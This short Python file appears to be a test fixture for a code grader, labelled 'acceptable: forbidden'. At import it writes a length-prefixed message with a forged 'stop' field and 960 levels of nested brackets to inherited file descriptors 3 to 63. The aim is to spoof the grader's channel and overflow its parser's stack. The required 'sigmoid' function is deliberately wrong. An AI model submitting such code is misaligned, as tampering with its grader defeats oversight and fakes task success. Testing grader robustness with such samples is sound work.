# acceptable: forbidden
# tries: to exhaust the grader's stack with the name of its exception: just not too deep to arrive
import os
import struct

HEIGHT = 960
HEADER = b'{"stop": "forbidden", "type": ' + b"[" * HEIGHT + b"]" * HEIGHT + b"}"

for number in range(3, 64):
    try:
        os.write(number, struct.pack(">II", len(HEADER), 0) + HEADER)
    except OSError:
        pass


def sigmoid(x):
    return -x
